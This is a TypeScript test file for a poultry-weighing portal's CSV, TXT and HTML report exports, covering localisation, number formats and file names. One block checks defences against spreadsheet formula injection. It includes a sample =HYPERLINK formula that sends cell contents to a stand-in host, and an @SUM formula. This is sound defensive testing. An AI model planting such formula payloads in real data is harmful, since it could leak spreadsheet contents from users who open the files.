import { createInstance, type TFunction } from 'i18next';
import { describe, expect, it } from 'vitest';
import { loadLocaleTree } from '../../i18n/resources';
import { numberFormat } from '../records/numbers';
import { downloadName, downloadText } from './downloads';
import { TEST_REPORT } from './testReport';
import { csvCells, formulaCells, HOSTILE, HOSTILE_NAMES } from '../../components/reports/hostileNames.testing';
import type { AvesPesosResponse } from '@portal/shared';

async function translator(language: 'pt' | 'en' | 'es'): Promise<TFunction> {
  const i18n = createInstance();
  await i18n.init({ lng: language, resources: { [language]: { translation: await loadLocaleTree(language) } }, interpolation: { escapeValue: false } });
  return i18n.t;
}

const options = async (language: 'pt' | 'en' | 'es', locale: string, separator: string, report = TEST_REPORT) => ({
  t: await translator(language),
  kind: 'aves' as const,
  report,
  numbers: numberFormat(locale),
  language,
  separator,
});

describe('report downloads', () => {
  it('CSV: section 3 names as titles, the user separator, pt-BR decimal comma without grouping, keys ending .R.P', async () => {
    const lines = downloadText('csv', await options('pt', 'pt-BR', ';')).split('\r\n');
    expect(lines[0]!.split(';').slice(0, 14)).toEqual(['nivel', 'data', 'nucleo', 'lote', 'sexo', 'aviario', 'lado', 'box', 'linha', 'idade_lote', 'key', 'totalAves', 'pesoMedio', 'desvioP']);
    expect(lines[6]).toBe(
      'box;10/11/2026;Granja Primavera;L-7;Macho;Aviário 1;A;2;Ross;28;"2026-11-10;L-7;Macho;Aviário 1;A;2.R.P";1;1234,5;0,0;0,00;100,00;1;1111,1;1357,9;0;0,00;0;0,00;1234,5;1234,5;1234,5;;;',
    );
  });

  it('CSV with a tab in English: decimal point, nothing quoted that needs no quotes', async () => {
    const lines = downloadText('csv', await options('en', 'en-US', '\t')).split('\r\n');
    expect(lines[5]!.split('\t').slice(10, 14)).toEqual(['2026-11-10;L-7;Macho;Aviário 1;A;1.R.P', '3', '2000.0', '200.0']);
  });

  it('TXT and HTML: translated title and labels, grouped numbers', async () => {
    const txt = downloadText('txt', await options('es', 'es-ES', ';'));
    expect(txt.startsWith('Análisis de pesaje\r\n')).toBe(true);
    expect(txt).toContain('Básculas:');
    expect(txt).toContain('Peso medio');
    expect(txt).toContain('130,72');
    const html = downloadText('html', await options('pt', 'pt-BR', ';'));
    expect(html).toContain('<title>Análise de pesagem</title>');
    expect(html).toContain('<th class="n">Peso médio</th>');
    expect(html).toContain('<td class="n">6.000,0</td>');
    expect(html).toContain('<td class="n">1.234,5</td>');
  });

  describe('with farm, flock, house, side and line named like formulas (from devices, imports, grantees)', () => {
    const renamed: Record<string, string> = { nome_nucleo: HOSTILE.farm, lote: HOSTILE.flock, aviario: HOSTILE.house, lado: HOSTILE.side, linha: HOSTILE.device };
    const hostile = JSON.parse(JSON.stringify(TEST_REPORT), (key, value: unknown) => renamed[key] ?? value) as AvesPesosResponse;

    it.each([';', ',', '\t', '|'])('CSV (%j): every name defused, every number still a number', async (separator) => {
      const rows = csvCells(downloadText('csv', await options('pt', 'pt-BR', separator, hostile)), separator);
      expect(rows.flatMap(formulaCells)).toEqual([]);
      const box = rows[6]!;
      expect(box.slice(2, 9)).toEqual([`'${HOSTILE.farm}`, `'${HOSTILE.flock}`, 'Macho', `'${HOSTILE.house}`, `'${HOSTILE.side}`, '2', `'${HOSTILE.device}`]);
      expect(box.slice(11, 13)).toEqual(['1', '1234,5']);
    });

    it('TXT and HTML: no name starts a column or a cell as a formula', async () => {
      const txt = downloadText('txt', await options('pt', 'pt-BR', ';', hostile));
      for (const name of HOSTILE_NAMES) {
        expect(txt).toContain(`'${name}`);
        expect(txt.split(`'${name}`).join('')).not.toContain(name);
      }
      const html = downloadText('html', await options('pt', 'pt-BR', ';', hostile));
      expect(html).toContain('<td>&#39;=HYPERLINK(&quot;http://x.test/?&quot;&amp;A1;&quot;ver&quot;)</td>');
      expect(html).toContain('<td>&#39;@SUM(1+1)</td>');
      expect(html).not.toMatch(/<t[dh][^>]*>[=+\-@\t]/);
      expect(html).not.toMatch(/<dd>[=+\-@\t]/);
    });
  });

  it('follows the reports language given (English words and numbers for a Portuguese interface)', async () => {
    // The screen passes useReportLanguage's t and numbers: here the reports language is English.
    const txt = downloadText('txt', await options('en', 'en-US', ';'));
    expect(txt.startsWith('Analysis of weighing\r\n')).toBe(true);
    expect(txt).toContain('Mean weight');
    expect(txt).toContain('2,000.0');
    expect(txt).not.toContain('Peso médio');
    const html = downloadText('html', await options('en', 'en-US', ';'));
    expect(html).toContain('<html lang="en">');
    expect(html).toContain('<th class="n">Mean weight</th>');
    expect(html).toContain('<td class="n">1,234.5</td>');
    const csv = downloadText('csv', await options('en', 'en-US', ';')).split('\r\n');
    expect(csv[1]!.split(';')[0]).toBe('total');
    expect(csv[6]).toContain(';1;1234.5;0.0;0.00;100.00;');
  });

  it('TXT and HTML: the band rule under its label once (not "Uniformidade: Uniformidade:")', async () => {
    for (const [language, locale, label] of [
      ['pt', 'pt-BR', 'Uniformidade'],
      ['en', 'en-US', 'Uniformity'],
      ['es', 'es-ES', 'Uniformidad'],
    ] as const) {
      const lines = downloadText('txt', await options(language, locale, ';')).split('\r\n');
      const rule = lines.filter((line) => line.startsWith(`${label}:`));
      expect(rule, language).toHaveLength(1);
      expect(rule[0]!.split(`${label}:`)).toHaveLength(2);
      expect(rule[0]!).toContain('± 10 %');
      const html = downloadText('html', await options(language, locale, ';'));
      expect(html).toMatch(new RegExp(`<dt>${label}</dt><dd>[^<:]+±`));
    }
  });

  it('names the file after the report and its period', () => {
    expect(downloadName('aves', TEST_REPORT, 'csv')).toBe('aves_2026-11-01_2026-11-30.csv');
    expect(downloadName('incubatorio', TEST_REPORT, 'html')).toBe('aves-incubatorio_2026-11-01_2026-11-30.html');
  });
});
